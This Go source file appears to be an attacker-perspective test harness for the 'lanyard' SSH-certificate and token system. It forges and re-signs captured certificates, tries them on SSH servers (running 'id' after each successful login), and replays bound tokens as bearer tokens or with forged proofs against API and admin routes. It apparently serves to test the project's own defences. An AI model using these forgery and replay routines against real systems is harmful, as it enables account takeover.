package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"maps"
	"math"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"lanyard/mgmt/api"
	"lanyard/mgmt/api/client"
	"lanyard/mgmt/api/proof"
	"lanyard/sshd/token"
)

// offer is a key as a client offers it: what it shows, and what it signs with.
type offer struct {
	what string
	ssh.Signer
}

// shows is a signer whose public key is another than it signs with.
type shows struct {
	ssh.Signer
	public ssh.PublicKey
}

func (s shows) PublicKey() ssh.PublicKey { return s.public }

// resign is what was captured over key, signed by key.
func resign(c *ssh.Certificate, key ssh.Signer, change func(*ssh.Certificate)) (*ssh.Certificate, error) {
	f := &ssh.Certificate{
		Key: key.PublicKey(), CertType: ssh.UserCert, KeyId: c.KeyId, ValidBefore: math.MaxUint64,
		Permissions: ssh.Permissions{Extensions: maps.Clone(c.Extensions)},
	}
	change(f)
	return f, f.SignCert(rand.Reader, key)
}

// offers are all ways to use c without its key.
func offers(c *ssh.Certificate) ([]offer, error) {
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, err
	}
	own, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		return nil, err
	}
	var all []offer
	var errs []error
	add := func(what string, cert *ssh.Certificate, err error) {
		errs = append(errs, err)
		if err == nil {
			all = append(all, offer{what, shows{own, cert}})
		}
	}
	keep := func(*ssh.Certificate) {}
	cert, err := resign(c, own, keep)
	add("re-signed over the thief's key", cert, err)
	cert, err = resign(c, own, func(f *ssh.Certificate) { f.Extensions[token.ExtSalt] = string(make([]byte, token.SaltSize)) })
	add("re-signed with another salt", cert, err)
	cert, err = resign(c, own, func(f *ssh.Certificate) { f.Key = c.Key })
	add("for the victim's key, signed by the thief's", cert, err)
	cert, err = resign(c, own, func(f *ssh.Certificate) { f.Extensions[token.ExtFresh] = c.Extensions[token.ExtIDToken] })
	add("the token as fresh too", cert, err)
	cert, err = resign(c, own, func(f *ssh.Certificate) {
		f.Extensions[token.ExtFresh] = c.Extensions[token.ExtIDToken]
		delete(f.Extensions, token.ExtIDToken)
	})
	add("the token as fresh only", cert, err)
	add("the victim's certificate itself, without its key", c, nil)
	return append(all, offer{"the thief's bare key", own}), errors.Join(errs...)
}

// replay offers everything to one server and prints how each went.
func replay(ctx context.Context, target, user, certFile string) error {
	addr, err := netip.ParseAddrPort(target)
	if err != nil {
		return err
	}
	c, err := readCertificate(certFile)
	if err != nil {
		return err
	}
	all, err := offers(c)
	if err != nil {
		return err
	}
	if key, err := ownersKey(); err != nil {
		return err
	} else if key != nil {
		s, err := ssh.NewSignerFromKey(key)
		if err != nil {
			return err
		}
		all = []offer{{"the owner's key", shows{s, c}}}
	}
	t, err := takeOver(ctx)
	if err != nil {
		return err
	}
	defer t.close()
	for _, o := range all {
		var said bytes.Buffer
		accepted, err := t.signIn(ctx, addr, user, o, &said)
		if err != nil && said.Len() == 0 {
			fmt.Fprint(&said, err)
		}
		attempt{o.what, accepted, strings.TrimSpace(said.String())}.print()
	}
	return nil
}

// signIn signs in and, when that worked, runs a command. What was said on the way goes to said.
func (t *taken) signIn(ctx context.Context, to netip.AddrPort, user string, o offer, said io.Writer) (bool, error) {
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	cl, err := t.dial(ctx, to, user, o, said)
	if err != nil {
		return false, err
	}
	defer cl.Close()
	s, err := cl.NewSession()
	if err != nil {
		return true, err
	}
	out, err := s.CombinedOutput("id -u; id -un")
	fmt.Fprintf(said, "%s", out)
	return true, err
}

// dial signs in.
func (t *taken) dial(ctx context.Context, to netip.AddrPort, user string, o offer, said io.Writer) (*ssh.Client, error) {
	nc, err := t.tunnel.Dial(ctx, to)
	if err != nil {
		return nil, err
	}
	if by, ok := ctx.Deadline(); ok {
		nc.SetDeadline(by)
	}
	c, chans, reqs, err := ssh.NewClientConn(nc, "", &ssh.ClientConfig{
		User: user, Auth: []ssh.AuthMethod{ssh.PublicKeys(o.Signer)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), // the attacker does not care who it is
		BannerCallback: func(b string) error {
			_, err := io.WriteString(said, b)
			return err
		},
	})
	if err != nil {
		nc.Close()
		return nil, err
	}
	return ssh.NewClient(c, chans, reqs), nil
}

// stay signs in with KEY and keeps a session open, as long as it is let.
func stay(ctx context.Context, target, user, certFile, command string) error {
	addr, err := netip.ParseAddrPort(target)
	if err != nil {
		return err
	}
	own, c, err := owned(certFile)
	if err != nil {
		return err
	}
	t, err := takeOver(ctx)
	if err != nil {
		return err
	}
	defer t.close()
	cl, err := t.dial(ctx, addr, user, offer{"stay", shows{own, c}}, os.Stdout)
	if err != nil {
		return err
	}
	defer cl.Close()
	s, err := cl.NewSession()
	if err != nil {
		return err
	}
	s.Stdout, s.Stderr = os.Stdout, os.Stdout
	err = s.Run(command)
	fmt.Println("the session is over:", err)
	return nil
}

// owned is KEY and its certificate.
func owned(certFile string) (ssh.Signer, *ssh.Certificate, error) {
	c, err := readCertificate(certFile)
	if err != nil {
		return nil, nil, err
	}
	key, err := ownersKey()
	if err != nil || key == nil {
		return nil, nil, errors.Join(err, errors.New("it needs KEY"))
	}
	own, err := ssh.NewSignerFromKey(key)
	return own, c, err
}

// login signs in under each name.
func login(ctx context.Context, target, certFile string, names []string) error {
	addr, err := netip.ParseAddrPort(target)
	if err != nil {
		return err
	}
	own, c, err := owned(certFile)
	if err != nil {
		return err
	}
	t, err := takeOver(ctx)
	if err != nil {
		return err
	}
	defer t.close()
	for _, quoted := range names {
		name, err := strconv.Unquote(quoted) // no argument can hold a zero byte
		if err != nil {
			return err
		}
		var said bytes.Buffer
		accepted, err := t.signIn(ctx, addr, name, offer{name, shows{own, c}}, &said)
		if err != nil && said.Len() == 0 {
			fmt.Fprint(&said, err)
		}
		attempt{name, accepted, strings.TrimSpace(said.String())}.print()
	}
	return nil
}

// forge writes the re-signed certificate with its key, as ssh reads them.
func forge(certFile, out string) error {
	c, err := readCertificate(certFile)
	if err != nil {
		return err
	}
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	own, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		return err
	}
	f, err := resign(c, own, func(*ssh.Certificate) {})
	if err != nil {
		return err
	}
	block, err := ssh.MarshalPrivateKey(priv, "")
	if err != nil {
		return err
	}
	if err := os.WriteFile(out, pem.EncodeToMemory(block), 0o600); err != nil {
		return err
	}
	return os.WriteFile(out+"-cert.pub", ssh.MarshalAuthorizedKey(f), 0o600)
}

// call tries every route that takes a person's proof, with the token as a bearer's and under proofs of another key.
func call(ctx context.Context, server, certFile string) error {
	c, err := readCertificate(certFile)
	if err != nil {
		return err
	}
	cl, err := client.New(server)
	if err != nil {
		return err
	}
	bound, salt := c.Extensions[token.ExtIDToken], []byte(c.Extensions[token.ExtSalt])
	key, err := ownersKey()
	if err != nil {
		return err
	}
	ways := map[string]func(method, route string, body []byte) (auth, proof string, err error){}
	sign := func(key ed25519.PrivateKey, salt []byte) func(string, string, []byte) (string, string, error) {
		return func(method, route string, body []byte) (string, string, error) {
			p, err := proof.Sign(key, proof.Params{Method: method, URL: cl.URL(route), Body: body, AccessToken: bound, Salt: salt, Now: time.Now()})
			return "DPoP " + bound, p, err
		}
	}
	if key != nil {
		ways["the owner's key"] = sign(key, salt)
	} else {
		_, own, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			return err
		}
		ways["a proof by the thief's key"] = sign(own, salt)
		ways["a proof by the thief's key, another salt"] = sign(own, make([]byte, token.SaltSize))
		ways["a bearer token"] = func(string, string, []byte) (string, string, error) { return "Bearer " + bound, "", nil }
		ways["the token without a proof"] = func(string, string, []byte) (string, string, error) { return "DPoP " + bound, "", nil }
	}
	routes := []struct{ method, route, body string }{
		{"GET", api.RouteMe, ""},
		{"POST", api.RouteSeen, ""},
		{"POST", api.RouteExplain, `{"account":"deploy","target":"web-1"}`},
		{"GET", "/api/admin/users", ""},
		{"GET", "/api/admin/audit", ""},
		{"POST", api.RouteLogout, `{"all":true}`},
	}
	if key != nil {
		routes = routes[:3] // what it may do, and what does not end its sign-in
	}
	for what, way := range ways {
		for _, r := range routes {
			auth, p, err := way(r.method, r.route, []byte(r.body))
			if err != nil {
				return err
			}
			status, said, err := ask(ctx, cl, r.method, r.route, r.body, auth, p)
			if err != nil {
				return err
			}
			attempt{what + ": " + r.method + " " + r.route, status/100 == 2, said}.print()
		}
	}
	return nil
}

func ask(ctx context.Context, cl *client.Client, method, route, body, auth, p string) (int, string, error) {
	req, err := http.NewRequestWithContext(ctx, method, cl.URL(route), strings.NewReader(body))
	if err != nil {
		return 0, "", err
	}
	req.Header.Set("Authorization", auth)
	if p != "" {
		req.Header.Set(api.HeaderProof, p)
	}
	res, err := cl.HTTP().Do(req)
	if err != nil {
		return 0, "", err
	}
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 64<<10))
	return res.StatusCode, fmt.Sprintf("%d %s", res.StatusCode, strings.TrimSpace(string(b))), err
}

// askLocally sends one request to a local socket and prints the answer.
func askLocally(ctx context.Context, socket, method, path, body string) error {
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	hc := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "unix", socket)
	}}}
	req, err := http.NewRequestWithContext(ctx, method, "http://local"+path, strings.NewReader(body))
	if err != nil {
		return err
	}
	res, err := hc.Do(req)
	if err != nil {
		return err
	}
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	attempt{method + " " + path, res.StatusCode/100 == 2, fmt.Sprintf("%d %s", res.StatusCode, strings.TrimSpace(string(b)))}.print()
	return err
}
